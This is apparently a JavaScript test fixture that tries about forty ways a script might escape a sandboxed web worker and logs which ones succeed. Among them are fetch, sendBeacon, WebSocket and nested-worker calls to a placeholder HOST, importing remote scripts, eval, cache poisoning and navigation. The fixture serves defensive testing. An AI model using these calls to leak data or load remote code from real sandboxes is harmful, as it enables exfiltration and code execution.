/* Attempts of a script that has got hold of the whole worker before anything closed its scope: what the opaque origin and the policy alone must hold. HOST, SITE as in attacks-python.ts. */
const wait = (ms) => new Promise((done) => setTimeout(done, ms))
const event = (target, name) => {
  target.onerror = (error) => error.preventDefault()
  return Promise.race([new Promise((yes) => target.addEventListener(name, () => yes(true))), wait(400).then(() => false)])
}
const blob = (text) => URL.createObjectURL(new Blob([text], { type: 'text/javascript' }))
const attacks = {
  fetch: async () => (await fetch('http://HOST/')).ok,
  'fetch without cors': async () => (await fetch('http://HOST/', { mode: 'no-cors' })).type,
  'fetch of the own site': async () => (await fetch('SITE/canary', { mode: 'no-cors' })).type,
  'fetch that outlives': async () => (await fetch('http://HOST/', { keepalive: true, mode: 'no-cors' })).type,
  XMLHttpRequest: async () => {
    const x = new XMLHttpRequest()
    x.open('GET', 'http://HOST/', false)
    x.send()
    return x.status
  },
  WebSocket: () => event(new WebSocket('ws://HOST/'), 'open'),
  EventSource: () => event(new EventSource('http://HOST/'), 'open'),
  WebTransport: async () => {
    await new WebTransport('https://HOST/').ready
    return true
  },
  sendBeacon: async () => navigator.sendBeacon('http://HOST/', 'x'),
  RTCPeerConnection: async () => new RTCPeerConnection({ iceServers: [{ urls: 'stun:HOST' }] }),
  'a font': async () => (await new FontFace('a', 'url(http://HOST/)').load()).status,
  importScripts: async () => importScripts('http://HOST/a.js') ?? true,
  'importScripts of the own site': async () => importScripts('SITE/canary') ?? true,
  'importScripts of a blob': async () => importScripts(blob('1')) ?? true,
  'import of a host': async () => import('http://HOST/a.js'),
  'import of the own site': async () => import('SITE/canary'),
  'import of a blob': async () => import(blob('1')),
  'import of data': async () => import('data:text/javascript,1'),
  // biome-ignore lint/security/noGlobalEval: this is the attempt.
  eval: async () => globalThis.eval('1'),
  Function: async () => new Function('return 1')(),
  'a timer with text': async () => {
    setTimeout('globalThis.reached = 1', 0)
    await wait(50)
    return globalThis.reached
  },
  IndexedDB: () => new Promise((yes, no) => Object.assign(indexedDB.open('a'), { onsuccess: () => yes(true), onerror: no })),
  'Cache API': async () => (await caches.open('callable/python')).put('SITE/', new Response('poisoned')) ?? true,
  OPFS: async () => navigator.storage.getDirectory(),
  localStorage: async () => localStorage.setItem('a', 'b') ?? true,
  cookies: async () => document.cookie,
  'cookie store': async () => cookieStore.set('a', 'b') ?? true,
  'locks that other pages hold': async () => navigator.locks.request('a', () => true),
  BroadcastChannel: async () => {
    new BroadcastChannel('callable').postMessage('reached')
    return false
  },
  parent: async () => parent.document,
  top: async () => top.document,
  'a nested worker of the site': () => event(new Worker('SITE/canary'), 'message'),
  'a nested worker of a host': () => event(new Worker('http://HOST/a.js'), 'message'),
  'a nested worker that fetches': async () => {
    const worker = new Worker(blob('fetch("http://HOST/", { mode: "no-cors" }).then(() => postMessage(1))'))
    return event(worker, 'message')
  },
  'a nested worker that imports': () => event(new Worker(blob('importScripts("http://HOST/a.js"); postMessage(1)')), 'message'),
  'a shared worker': async () => new SharedWorker(blob('fetch("http://HOST/")')),
  'a service worker': async () => navigator.serviceWorker.register('SITE/_/page.js'),
  'a notification': async () => Notification.permission === 'granted',
  'a message to the frame': async () => {
    for (const word of ['kept', 'here', { do: 'end', id: 1 }]) postMessage(word)
    return false
  },
  navigation: async () => {
    location.href = 'http://HOST/'
    return location.href.startsWith('http://HOST')
  },
}
// An error nobody hears would end the worker before its last attempt.
for (const name of ['error', 'unhandledrejection']) addEventListener(name, (event) => event.preventDefault())
addEventListener('message', async () => {
  const reached = {}
  for (const [name, attempt] of Object.entries(attacks))
    try {
      reached[name] = Boolean(await Promise.race([attempt(), wait(1500)]))
    } catch {
      reached[name] = false
    }
  console.log(`attacks ${JSON.stringify(reached)}`)
})
